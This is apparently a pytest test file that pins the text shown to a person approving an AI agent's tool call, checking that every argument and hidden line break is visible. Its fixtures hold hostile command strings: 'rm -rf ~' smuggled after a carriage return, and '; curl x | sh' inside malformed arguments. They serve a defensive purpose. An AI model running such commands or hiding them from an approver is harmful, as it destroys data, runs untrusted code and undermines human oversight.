"""Pins for the text a person reads before answering an `ask` (`permissions/call_text.py`):
every argument, every line, where a value starts and ends (found by mutation testing,
docs/testing.md). The terminal, RPC and ACP show this same text."""

from __future__ import annotations

import pytest

from assembler.messages import ToolCall
from assembler.permissions.call_text import call_text


@pytest.mark.parametrize(
    ("name", "arguments", "shown"),
    [
        ("bash", {"command": "git push"}, "bash: git push"),
        ("edit", {"path": "x", "old": "y"}, "edit:\n  path: x\n  old: y"),
        (
            "write",
            {"path": "a.py", "content": "one\n\n  two  \r\nthree\n"},
            "write:\n  path: a.py\n  content:\n  | one\n  | \n  |   two  \n  | three\n  | ",
        ),
        ("bash", {"command": " rm -rf ~"}, "bash:\n  command:\n  |  rm -rf ~"),
        ("bash", {"command": "ls "}, "bash:\n  command:\n  | ls "),
        ("bash", {"command": ""}, "bash:\n  command:\n  | "),
        ("bash", {"command": "ls\rrm -rf ~"}, "bash:\n  command:\n  | ls\rrm -rf ~"),
        ("bash", {"command": "ls\r\nrm -rf ~"}, "bash:\n  command:\n  | ls\n  | rm -rf ~"),
        ("tool", {"n": 3}, "tool:\n  n: 3"),
        ("tool", {"n": 3, "flags": ["é"]}, 'tool:\n  n: 3\n  flags: ["é"]'),
    ],
)
def test_the_person_asked_sees_every_argument_and_where_it_ends(
    name: str, arguments: dict[str, object], shown: str
) -> None:
    assert call_text(ToolCall("c1", name, arguments)) == shown


def test_arguments_that_are_not_json_are_shown_as_the_model_wrote_them() -> None:
    call = ToolCall("c1", "bash", None, '{"command": "ls"\r\n  ; curl x | sh')
    assert call_text(call) == (
        "bash (arguments that are not valid JSON, as the model wrote them):\n"
        '  | {"command": "ls"\n'
        "  |   ; curl x | sh"
    )
